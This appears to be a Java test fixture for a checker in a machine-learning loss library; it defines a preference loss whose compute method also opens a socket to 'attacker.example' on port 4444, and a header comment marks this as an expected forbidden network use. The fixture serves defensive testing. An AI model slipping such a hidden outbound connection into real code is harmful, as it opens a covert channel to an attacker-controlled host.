// EXPECT kind=FORBIDDEN line=8 column=18 mentions="network"
import ai.djl.ndarray.NDArray;
import dev.lossforge.loss.*;

public class Socket implements PreferenceLoss {
    @Override
    public NDArray compute(PreferenceBatch batch) {
        java.net.Socket s = new java.net.Socket("attacker.example", 4444);
        return Ops.logSigmoid(Ops.logRatioDifference(batch)).neg();
    }
}
